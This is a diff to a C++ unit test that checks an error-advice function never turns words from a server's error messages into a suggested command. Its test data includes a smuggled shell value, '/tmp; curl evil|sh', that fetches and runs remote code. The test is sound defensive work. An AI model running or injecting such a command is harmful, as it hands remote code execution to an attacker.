@@ -141,10 +141,11 @@ std::vector<std::string> with_words_of_a_server(const std::string& words) {
 }
 
 TEST(Troubles, MakesNoCommandOfTheWordsOfAServer) {
-  for (const std::string& message :
-       {"cannot start 'a': its working directory '/tmp; curl evil|sh' cannot be entered",
-        "cannot start '/tmp/evil': Permission denied", "cannot start 'evil': it was not found on PATH",
-        "cannot start 'npx': it was not found on PATH"}) {
+  const std::vector<std::string> messages{
+      "cannot start 'a': its working directory '/tmp; curl evil|sh' cannot be entered",
+      "cannot start '/tmp/evil': Permission denied", "cannot start 'evil': it was not found on PATH",
+      "cannot start 'npx': it was not found on PATH"};
+  for (const std::string& message : messages) {
     for (const std::string& text : with_words_of_a_server(message)) {
       const auto advice = advice_for(text);
       const std::string remedy = advice ? advice->remedy : "";
